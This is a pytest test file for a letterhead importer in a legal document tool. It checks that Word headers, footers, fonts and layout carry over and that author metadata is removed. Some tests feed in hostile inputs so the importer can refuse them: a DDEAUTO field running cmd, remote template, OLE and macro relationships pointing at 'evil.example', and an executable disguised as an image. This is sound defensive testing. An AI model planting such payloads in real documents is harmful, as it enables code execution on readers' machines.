"""Letterheads: taken over from Word documents, or refused in a sentence."""

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.oxml import parse_xml
from docx.shared import Mm, Pt, RGBColor

from advocate_desk.exporters.blocks import ExportOptions
from advocate_desk.exporters.compose import compose
from advocate_desk.exporters.docx_writer import docx_bytes
from advocate_desk.exporters.verify import verify
from advocate_desk.importers.letterhead_reader import read_letterhead
from advocate_desk.model.errors import ImportRefused
from advocate_desk.model.kinds import Layout
from exporters.docx_parts import W, parts_of, text_of, tree, w
from exporters.sample import picture, png_chunk, river_statement

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _word() -> "docx.document.Document":
    made = docx.Document()
    made.core_properties.author = "Sok Dara"
    section = made.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.top_margin, section.left_margin = Mm(45), Mm(30)
    private = png_chunk(b"tEXt", b"Author\0Sok Dara")
    head = section.header.paragraphs[0]
    head.add_run().add_picture(io.BytesIO(picture(extra=private)), width=Mm(30))
    name = head.add_run("\tបណ្តាញទន្លេស្អាត Clean River")
    name.bold, name.font.size, name.font.color.rgb = True, Pt(14), RGBColor(11, 93, 90)
    cell = section.header.add_table(1, 2, Mm(150)).cell(0, 1)
    cell.text = "No. 12"
    section.footer.paragraphs[0].add_run("12 Street 371, Phnom Penh")
    made.styles["Title"].font.size = Pt(20)
    return made


def _saved(made: "docx.document.Document", folder: Path) -> Path:
    path = folder / "Our letterhead.docx"
    made.save(str(path))
    return path


def _changed(path: Path, name: str, old: bytes, new: bytes) -> Path:
    """The same package with one part changed."""
    with zipfile.ZipFile(path) as package:
        parts = {each: package.read(each) for each in package.namelist()}
    assert re.search(old, parts[name])
    parts[name] = re.sub(old, lambda _found: new, parts[name], count=1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for each, data in parts.items():
            package.writestr(each, data)
    return path


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _saved(_word(), tmp_path_factory.mktemp("letterhead"))


def test_page_head_foot_and_looks_are_taken_over(path: Path) -> None:
    letterhead = read_letterhead(path)
    assert letterhead.name == "Our letterhead"
    assert (letterhead.page.width, letterhead.page.height) == (11906, 16838)
    assert abs(letterhead.page.top - 2551) < 3
    assert letterhead.looks["title"].size == 40
    assert b"Clean River" in letterhead.header_xml
    assert b"12 Street 371" in letterhead.footer_xml
    assert list(letterhead.images) == ["picture1"]


@pytest.mark.parametrize("layout", Layout)
def test_a_document_on_it_keeps_our_fonts_and_privacy(path: Path, layout: Layout) -> None:
    made = compose(river_statement(), layout, ExportOptions(letterhead=read_letterhead(path)))
    data = docx_bytes(made)
    assert docx_bytes(made) == data
    head = tree(data, "word/header.xml")
    said = [text_of(run).strip() for run in head.iter(W + "r") if text_of(run).strip()]
    assert said == ["បណ្តាញទន្លេស្អាត", "Clean River", "No. 12"]
    fonts = {w(run.find(f"{W}rPr/{W}rFonts"), "cs") for run in head.iter(W + "r")}
    assert fonts == {"Noto Serif Khmer"}
    everything = b"".join(parts_of(data).values())
    assert b"Sok Dara" not in everything
    assert b"python-docx" not in everything
    size = next(tree(data, "word/document.xml").iter(W + "pgMar"))
    assert abs(int(w(size, "top")) - 2551) < 3
    assert "word/_rels/header.xml.rels" in parts_of(data)


def test_the_page_numbers_stand_under_the_foot_of_the_letterhead(path: Path) -> None:
    letterhead = read_letterhead(path)
    for numbers in (True, False):
        options = ExportOptions(letterhead=letterhead, page_numbers=numbers)
        footer = tree(
            docx_bytes(compose(river_statement(), Layout.ENGLISH, options)), "word/footer.xml"
        )
        assert ("NUMPAGES" in "".join(footer.itertext())) is numbers
        assert "12 Street 371" in text_of(footer)


def test_our_proof_holds_on_a_letterhead(path: Path) -> None:
    options = ExportOptions(letterhead=read_letterhead(path))
    made = compose(river_statement(), Layout.SIDE_BY_SIDE, options)
    assert verify(docx_bytes(made), made) == ()


def test_a_first_page_that_differs_stays_different(tmp_path: Path) -> None:
    made = _word()
    section = made.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "Only on the first page"
    letterhead = read_letterhead(_saved(made, tmp_path))
    options = ExportOptions(letterhead=letterhead)
    data = docx_bytes(compose(river_statement(names=60), Layout.KHMER_ENGLISH, options))
    assert "Only on the first page" in text_of(tree(data, "word/headerFirst.xml"))
    firsts = list(tree(data, "word/document.xml").iter(W + "titlePg"))
    assert len(firsts) == 1


def test_page_numbers_of_its_own_are_kept_and_other_fields_become_text(tmp_path: Path) -> None:
    made = _word()
    paragraph = made.sections[0].footer.paragraphs[0]
    for name, shown in (("PAGE", "7"), ("AUTHOR", "Somebody")):
        field = f'<w:fldSimple {_W} w:instr=" {name} "><w:r><w:t>{shown}</w:t></w:r></w:fldSimple>'
        paragraph._p.append(parse_xml(field))
    letterhead = read_letterhead(_saved(made, tmp_path))
    assert letterhead.footer_xml.count(b"instrText>") == 2
    assert b"Somebody" in letterhead.footer_xml
    options = ExportOptions(letterhead=letterhead)
    footer = tree(
        docx_bytes(compose(river_statement(), Layout.ENGLISH, options)), "word/footer.xml"
    )
    assert "".join(footer.itertext()).count("PAGE") == 1


def test_a_field_that_reaches_outside_is_refused(tmp_path: Path) -> None:
    made = _word()
    field = f'<w:fldSimple {_W} w:instr="DDEAUTO c:\\\\cmd /k calc"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    made.sections[0].header.paragraphs[0]._p.append(parse_xml(field))
    with pytest.raises(ImportRefused, match="DDEAUTO"):
        read_letterhead(_saved(made, tmp_path))


@pytest.mark.parametrize(
    ("kind", "mode"),
    [("attachedTemplate", ' TargetMode="External"'), ("oleObject", ""), ("vbaProject", "")],
)
def test_templates_objects_and_macros_are_refused(tmp_path: Path, kind: str, mode: str) -> None:
    path = _saved(_word(), tmp_path)
    relation = (
        '<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="http://evil.example/a.dotm"{mode}/></Relationships>'
    )
    _changed(path, "word/_rels/document.xml.rels", rb"</Relationships>", relation.encode())
    with pytest.raises(ImportRefused, match=kind):
        read_letterhead(path)


def test_a_picture_that_is_none_is_refused(tmp_path: Path) -> None:
    path = _changed(_saved(_word(), tmp_path), "word/media/image1.png", rb"(?s).*", b"MZ\x90\x00")
    with pytest.raises(ImportRefused, match="neither PNG nor JPEG"):
        read_letterhead(path)


def test_a_document_without_head_and_foot_is_no_letterhead(tmp_path: Path) -> None:
    with pytest.raises(ImportRefused, match=r"nothing in its header or footer"):
        read_letterhead(_saved(docx.Document(), tmp_path))


def test_a_page_without_room_is_refused(tmp_path: Path) -> None:
    made = _word()
    made.sections[0].left_margin = Mm(190)
    with pytest.raises(ImportRefused, match="no room"):
        read_letterhead(_saved(made, tmp_path))


@pytest.mark.parametrize(
    ("name", "data"),
    [("a.docx", b"%PDF-1.7"), ("a.docx", b"PK\x03\x04nothing"), ("a.pdf", b"%PDF")],
)
def test_other_files_are_refused(tmp_path: Path, name: str, data: bytes) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(ImportRefused, match=f"“{name}”"):
        read_letterhead(path)
